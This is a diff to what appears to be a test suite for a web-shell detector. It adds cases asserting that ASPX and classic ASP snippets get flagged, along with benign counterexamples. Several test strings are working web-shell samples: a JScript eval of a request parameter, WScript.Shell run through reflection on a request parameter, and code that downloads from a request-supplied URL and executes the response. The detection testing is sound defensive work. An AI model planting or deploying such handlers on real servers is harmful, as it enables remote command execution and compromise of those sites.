@@ -276,3 +276,32 @@ def test_handler_writing_a_text_log_is_not_planting():
            'public class H : IHttpHandler { public void ProcessRequest(HttpContext c) {\n'
            'StreamWriter w = File.AppendText(c.Server.MapPath("~/App_Data/hits.log"));\n'
            'w.Write("<p>visit</p>");\nw.Close(); }\npublic bool IsReusable { get { return false; } } }', "x.ashx")
+
+
+def test_jscript_evaluate_from_csharp():
+    h = shell('<%@ Page Language="C#" %><% Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request["c"], '
+              'Microsoft.JScript.Vsa.VsaEngine.CreateEngine())); %>', "x.aspx")
+    assert h.rule == "aspx.request-to-eval"
+
+
+def test_wscript_shell_driven_through_invoke_member():
+    h = shell('<%@ Page Language="C#" %><% object o = System.Activator.CreateInstance(Type.GetTypeFromProgID('
+              '"WScript.Shell")); o.GetType().InvokeMember("Run", System.Reflection.BindingFlags.InvokeMethod, '
+              'null, o, new object[]{Request["c"]}); %>', "x.aspx")
+    assert h.rule == "aspx.request-to-exec"
+
+
+def test_invoke_member_on_a_plain_object_is_reflection():
+    benign('<%@ Page Language="C#" %><% var t = typeof(Calc); t.InvokeMember("Add", '
+           'System.Reflection.BindingFlags.InvokeMethod, null, calc, new object[]{Request["a"]}); %>', "x.aspx")
+
+
+def test_execute_of_downloaded_code():
+    h = shell('<%\nSet x = Server.CreateObject("Microsoft.XMLHTTP")\nx.open "GET", Request("u"), False\nx.send\n'
+              'Execute x.responseText\n%>')
+    assert h.confidence >= 0.75
+
+
+def test_showing_a_downloaded_page_is_not_executing_it():
+    benign('<%\nSet x = Server.CreateObject("Microsoft.XMLHTTP")\nx.open "GET", "http://feeds.example/news", False\n'
+           'x.send\nResponse.Write x.responseText\n%>')
